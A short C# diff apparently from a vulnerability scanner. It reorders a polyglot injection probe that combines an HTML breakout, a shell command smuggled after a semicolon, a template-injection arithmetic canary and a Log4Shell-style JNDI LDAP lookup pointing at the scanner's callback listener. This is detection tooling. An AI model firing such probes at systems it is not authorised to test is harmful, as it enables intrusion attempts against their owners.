@@ -9,5 +9,5 @@ internal static class InjectionTexts
     public static readonly TimeSpan DelayTime = TimeSpan.FromSeconds(0.6);
 
     public static string Polyglot(Canaries canaries) =>
-        $"'\">{Markup};echo lighthouse$(({canaries.Left}*{canaries.Right}));{{{{{canaries.Left}*{canaries.Right}}}}}${{jndi:ldap://{canaries.Listener.Authority}/a}}";
+        $"a;echo lighthouse$(({canaries.Left}*{canaries.Right})) # '\">{Markup}{{{{{canaries.Left}*{canaries.Right}}}}}${{jndi:ldap://{canaries.Listener.Authority}/a}}";
 }
